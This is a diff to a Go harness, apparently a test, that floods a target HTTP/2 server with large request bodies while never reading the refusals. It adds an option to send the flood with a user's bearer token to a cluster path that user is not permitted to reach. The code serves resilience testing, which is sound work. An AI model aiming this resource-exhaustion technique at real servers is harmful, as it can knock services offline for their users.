@@ -44,9 +44,13 @@ func zeroWindow(ctx context.Context, v *victim) {
 	})
 }
 
-// unreadRefusals sends as much of many bodies as a server takes unasked, and allows no byte of the refusals: who refuses a request must
-// forget its body before the refusal is read.
+// unreadRefusals sends as much of many bodies as a server takes unasked, and allows no byte of the refusals. A server must not keep a
+// refused body until its peer has read the refusal. With a person's token the requests are for a cluster that the person may not reach.
 func unreadRefusals(ctx context.Context, v *victim) {
+	path, fields := trivial, []string(nil)
+	if v.personToken != "" {
+		path, fields = "/clusters/unknown/api", []string{"authorization", "Bearer " + v.personToken}
+	}
 	const perStream, perConnection = 512 << 10, 60 << 20
 	piece := make([]byte, 16<<10)
 	v.each(ctx, func(ctx context.Context) error {
@@ -56,7 +60,7 @@ func unreadRefusals(ctx context.Context, v *victim) {
 		}
 		defer f.Close()
 		for range perConnection / perStream {
-			id, err := f.request(false, "POST", trivial)
+			id, err := f.request(false, "POST", path, fields...)
 			if err != nil {
 				return err
 			}
